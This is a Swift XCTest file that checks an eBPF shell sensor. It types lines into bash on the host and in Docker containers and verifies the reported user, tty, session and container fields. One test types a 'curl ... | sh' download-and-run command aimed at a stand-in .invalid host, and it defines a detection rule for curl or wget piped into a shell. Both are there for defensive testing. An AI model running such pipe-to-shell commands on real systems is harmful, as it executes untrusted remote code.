import Foundation
import VigilBPF
import VigilContainers
import VigilEvents
import VigilRules
import VigilSensors
import VigilTestSupport
import XCTest
#if canImport(Glibc)
import Glibc
#endif

/// The shell sensor on this kernel (bpf/shell.bpf.c): real interactive bash shells on a real pty
/// (util-linux `script`), on the host and in a container of `DockerTestEngine.bashImage`, with a
/// line typed into each. Events are told apart by a marker in the line (the sensor sees every
/// bash on the host).
final class ShellSensorTests: XCTestCase {
    private func requireUprobes() throws { try requireKernel(.attachUprobe, .attachTracepoint, .attachTpBTF, .mapRingBuffer) }

    /// A directory any user may write, removed when the test ends.
    private func sharedDirectory() throws -> String {
        let dir = "/tmp/vigil-shell-\(UUID().uuidString.prefix(8).lowercased())"
        try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
        chmod(dir, 0o777)
        addTeardownBlock { try? FileManager.default.removeItem(atPath: dir) }
        return dir
    }

    private func read(_ path: String) throws -> String {
        try String(contentsOfFile: path, encoding: .utf8).trimmingCharacters(in: .whitespacesAndNewlines)
    }

    private func field(_ name: String, _ event: Event) -> FieldValue? { Fields.named(name)?.extract(event, nil) }

    /// Types `line` into an interactive bash started by `docker exec -it` in `container`,
    /// reading the ring meanwhile; returns every event read.
    private func typeInContainer(_ harness: TraceHarness, _ container: String, _ line: String) throws -> [Event] {
        try harness.collectWhileRunning {
            let terminal = try PtyTerminal("docker exec -it -e TERM=dumb \(container) bash --norc --noprofile -i")
            terminal.type(line)
            terminal.exit()
        }.1
    }

    /// An interactive bash as user nobody on the host: the event carries the exact line, the
    /// shell's pid, user, tty and session, and no container.
    func testALineTypedIntoAHostBashIsReportedWithUserTTYAndSession() throws {
        try requireUprobes()
        let dir = try sharedDirectory()
        let harness = try TraceHarness(kinds: [.shell])
        XCTAssertTrue(harness.sensors.loaded.contains { $0.name == "shell" }, "kind shell loads the shell sensor")
        XCTAssertFalse(harness.sensors.shellBinaries.isEmpty, "the host's bash has probes")
        let line = "tty > \(dir)/tty; echo $$ > \(dir)/pid; cut -d' ' -f6 /proc/$$/stat > \(dir)/sid # vigil-marker"
        let (_, events) = try harness.collectWhileRunning {
            let terminal = try PtyTerminal("setpriv --reuid=65534 --regid=65534 --clear-groups env -i TERM=dumb HOME=/tmp bash --norc --noprofile -i")
            terminal.type(line)
            terminal.exit()
        }
        let shells = events.filter { $0.kind == .shell && $0.shellLine?.line.string.contains("vigil-marker") == true }
        XCTAssertEqual(shells.count, 1, "one event for one line: \(shells.map(EventFormat.tableRow))")
        let event = try XCTUnwrap(shells.first)
        let shell = try XCTUnwrap(event.shellLine)
        XCTAssertEqual(shell.line.string, line, "the exact line")
        XCTAssertFalse(shell.truncated)
        XCTAssertEqual(event.pid, UInt32(try read(dir + "/pid")), "the shell's pid")
        XCTAssertEqual(event.comm, "bash")
        XCTAssertEqual(event.uid, 65534)
        XCTAssertEqual(field("user.name", event), .string("nobody"))
        let tty = try read(dir + "/tty") // /dev/pts/N
        XCTAssertTrue(tty.hasPrefix("/dev/pts/"), tty)
        XCTAssertEqual(shell.tty, "pts" + tty.dropFirst("/dev/pts/".count))
        XCTAssertEqual(field("proc.ttyname", event), .string(ByteString(shell.tty)))
        XCTAssertEqual(field("shell.line", event), .string(ByteString(line)))
        XCTAssertNotEqual(shell.ttyNumber, 0)
        // The command the line ran has the same terminal (the exec record's, vigil_fill_tty too).
        let cut = try XCTUnwrap(events.first { $0.exec != nil && $0.ppid == event.pid && $0.comm == "cut" })
        XCTAssertEqual(cut.exec?.tty, shell.tty)
        XCTAssertEqual(cut.exec?.ttyNumber, shell.ttyNumber)
        XCTAssertEqual(shell.sessionID, UInt32(try read(dir + "/sid")), "the session the shell's /proc/PID/stat names")
        XCTAssertEqual(field("shell.sid", event), .uint(UInt64(shell.sessionID)))
        XCTAssertFalse(event.container.isContainer, "a host shell")
        XCTAssertEqual(field("evt.type", event), .string("bash_readline"))
    }

    /// `bash -c` never calls readline: its command makes no event, while an interactive bash's
    /// line, typed after it in the same capture, does.
    func testANonInteractiveBashMakesNoEvent() throws {
        try requireUprobes()
        let marker = "vigil-noninteractive-\(UUID().uuidString.prefix(8))"
        let harness = try TraceHarness(kinds: [.shell])
        let (_, events) = try harness.collectWhileRunning {
            let script = try PtyTerminal("bash --norc --noprofile -c 'echo \(marker)-c'")
            script.process.waitUntilExit()
            let terminal = try PtyTerminal("env -i TERM=dumb bash --norc --noprofile -i")
            terminal.type("echo \(marker)-i")
            terminal.exit()
        }
        let lines = events.compactMap { $0.shellLine?.line.string }.filter { $0.contains(marker) }
        XCTAssertEqual(lines, ["echo \(marker)-i"], "only the interactive shell's line")
    }

    /// A container running before the sensor loads: its bash (another file, in the container's
    /// root) has probes from the load; `docker exec -it` a bash there and type a line.
    func testALineTypedInAContainerRunningAtLoadNamesTheContainer() throws {
        try requireUprobes()
        let container = try DockerTestEngine.startContainer(for: self, image: DockerTestEngine.bashImage, command: ["sleep", "300"])
        let harness = try TraceHarness(kinds: [.shell], metadata: true)
        XCTAssertTrue(harness.sensors.shellBinaries.contains { $0.hasSuffix("/root/bin/bash") }, "\(harness.sensors.shellBinaries)")
        // The example rule of docs/rules.md matches it (no curl in the image: the line is what counts).
        let line = "curl -s http://vigil-\(UUID().uuidString.prefix(8)).invalid/x | sh"
        let events = try typeInContainer(harness, container.name, line)
        let shells = events.filter { $0.shellLine?.line.string == line }
        XCTAssertEqual(shells.count, 1, "one event for one line: \(events.filter { $0.kind == .shell }.map(EventFormat.tableRow))")
        let event = try XCTUnwrap(shells.first)
        XCTAssertEqual(event.container.fullID, container.id)
        XCTAssertEqual(event.container.name, container.name)
        XCTAssertEqual(event.container.image, DockerTestEngine.bashImage)
        XCTAssertEqual(field("container.name", event), .string(ByteString(container.name)))
        XCTAssertEqual(event.comm, "bash")
        XCTAssertEqual(event.uid, 0)
        XCTAssertTrue(event.shellLine?.tty.hasPrefix("pts") == true, "docker exec -it gives the shell a pty: \(event.shellLine?.tty ?? "")")
        let rules = try RuleSet(files: [("shell.yaml", RuleFiles.items(text: """
            - rule: Download piped to a shell typed in a container
              desc: someone typed curl or wget piped into a shell inside a container
              condition: >
                evt.type = bash_readline and container.id != host
                and (shell.line contains "curl " or shell.line contains "wget ")
                and (shell.line contains "| sh" or shell.line contains "| bash" or shell.line contains "|sh" or shell.line contains "|bash")
              output: "Download piped to a shell (user=%user.name line=%shell.line tty=%proc.ttyname container=%container.name image=%container.image)"
              priority: WARNING
            """, file: "shell.yaml"))])
        XCTAssertEqual(rules.matches(event).map(\.rule.name), ["Download piped to a shell typed in a container"])
        var filter = KernelFilter()
        filter.add(rules.pushdown)
        XCTAssertTrue(filter.shells, "the rule asks for the shell sensor")
    }

    /// Two containers of one image: each overlay mount shows its own device, so the bash of
    /// each gets probes, which the kernel puts on the one file underneath; a line typed in one
    /// container is still one event.
    func testTwoContainersOfOneImageReportALineOnce() throws {
        try requireUprobes()
        let first = try DockerTestEngine.startContainer(for: self, image: DockerTestEngine.bashImage, command: ["sleep", "300"])
        let second = try DockerTestEngine.startContainer(for: self, image: DockerTestEngine.bashImage, command: ["sleep", "300"])
        let harness = try TraceHarness(kinds: [.shell], metadata: true)
        XCTAssertGreaterThanOrEqual(harness.sensors.shellBinaries.filter { $0.hasSuffix("/root/bin/bash") }.count, 2,
                                    "both containers' bash: \(harness.sensors.shellBinaries)")
        let line = "echo vigil-twice-\(UUID().uuidString.prefix(8))"
        let events = try typeInContainer(harness, second.name, line)
        let shells = events.filter { $0.shellLine?.line.string == line }
        XCTAssertEqual(shells.count, 1, "\(shells.map(EventFormat.tableRow))")
        XCTAssertEqual(shells.first?.container.name, second.name)
        XCTAssertNotEqual(shells.first?.container.name, first.name)
    }

    /// A container started after the load (`docker run -it`): its bash is found from its exec
    /// and gets probes then. The line typed before they were attached may be missed (bash was
    /// already in readline); the next one is reported with the container.
    func testALineTypedInAContainerStartedAfterTheLoadNamesTheContainer() throws {
        try requireUprobes()
        try DockerTestEngine.requireImage(DockerTestEngine.bashImage)
        let harness = try TraceHarness(kinds: [.shell], metadata: true)
        let before = harness.sensors.shellBinaries
        let name = "vigil-ct-\(UUID().uuidString.prefix(8).lowercased())"
        addTeardownBlock { _ = DockerTestEngine.run(["docker", "rm", "-f", name]) }
        let line = "echo vigil-late-\(UUID().uuidString.prefix(8))"
        try harness.stream.drain { _ in }
        let terminal = try PtyTerminal("docker run -it --rm --network none -e TERM=dumb --name \(name) \(DockerTestEngine.bashImage) bash --norc --noprofile -i")
        var events: [Event] = []
        // Read the ring (the stream attaches the new bash from its exec) until the container's
        // bash has probes; the deadline only keeps a broken sensor from hanging the test.
        let deadline = Date().addingTimeInterval(60)
        while harness.sensors.shellBinaries.count == before.count, terminal.process.isRunning, Date() < deadline {
            try harness.stream.drain { events.append($0) }
            Thread.sleep(forTimeInterval: 0.02)
        }
        XCTAssertGreaterThan(harness.sensors.shellBinaries.count, before.count, "the container's bash got probes: \(harness.sensors.shellBinaries)")
        terminal.type("true")
        terminal.type(line)
        // Read while the container exists (its name comes from Docker), until the line came.
        while !events.contains(where: { $0.shellLine?.line.string == line }), terminal.process.isRunning, Date() < deadline {
            try harness.stream.drain { events.append($0) }
            Thread.sleep(forTimeInterval: 0.02)
        }
        terminal.exit()
        try harness.stream.drain { events.append($0) }
        let event = try XCTUnwrap(events.first { $0.shellLine?.line.string == line },
                                  "\(events.filter { $0.kind == .shell }.map(EventFormat.tableRow))")
        XCTAssertEqual(event.container.name, name)
        XCTAssertEqual(event.container.image, DockerTestEngine.bashImage)
        XCTAssertEqual(events.filter { $0.shellLine?.line.string == line }.count, 1)
    }

    /// A shell whose binary has no readline of its own (linked with the shared libreadline, as
    /// some distributions build bash): run as `bash`, it is found from its exec and the probes go
    /// on the libreadline it maps. Its first line may be read before they are attached.
    func testAShellLinkedWithLibreadlineGetsTheProbesOnTheLibrary() throws {
        try requireUprobes()
        let dir = try sharedDirectory()
        let shell = dir + "/bash"
        try FileManager.default.moveItem(atPath: try compileFixture("readline-shell", libraries: ["-lreadline"]), toPath: shell)
        let harness = try TraceHarness(kinds: [.shell])
        let before = harness.sensors.shellBinaries
        let line = "vigil-libreadline-\(UUID().uuidString.prefix(8))"
        try harness.stream.drain { _ in }
        let terminal = try PtyTerminal(shell)
        var events: [Event] = []
        let deadline = Date().addingTimeInterval(60) // keeps a broken sensor from hanging the test
        while harness.sensors.shellBinaries.count == before.count, terminal.process.isRunning, Date() < deadline {
            try harness.stream.drain { events.append($0) }
            Thread.sleep(forTimeInterval: 0.02)
        }
        let added = harness.sensors.shellBinaries.filter { !before.contains($0) }
        XCTAssertEqual(added.count, 1, "\(harness.sensors.shellBinaries)")
        XCTAssertTrue(added.first?.contains("libreadline.so") == true, "the library, not the binary: \(added)")
        terminal.type("first")
        terminal.type(line)
        terminal.exit()
        try harness.stream.drain { events.append($0) }
        let event = try XCTUnwrap(events.first { $0.shellLine?.line.string == line }, "\(events.filter { $0.kind == .shell }.map(EventFormat.tableRow))")
        XCTAssertEqual(event.comm, "bash")
    }

    /// A line longer than the 511 bytes kept is cut there and marked truncated.
    func testALongLineIsCutAndMarked() throws {
        try requireUprobes()
        let harness = try TraceHarness(kinds: [.shell])
        let marker = "#vigil-long-\(UUID().uuidString.prefix(8))"
        let line = marker + String(repeating: "x", count: 600)
        let (_, events) = try harness.collectWhileRunning {
            let terminal = try PtyTerminal("env -i TERM=dumb bash --norc --noprofile -i")
            terminal.type(line)
            terminal.exit()
        }
        let event = try XCTUnwrap(events.first { $0.shellLine?.line.string.hasPrefix(marker) == true })
        XCTAssertEqual(event.shellLine?.line.string, String(line.prefix(511)))
        XCTAssertEqual(event.shellLine?.truncated, true)
        XCTAssertEqual(field("shell.truncated", event), .bool(true))
    }
}
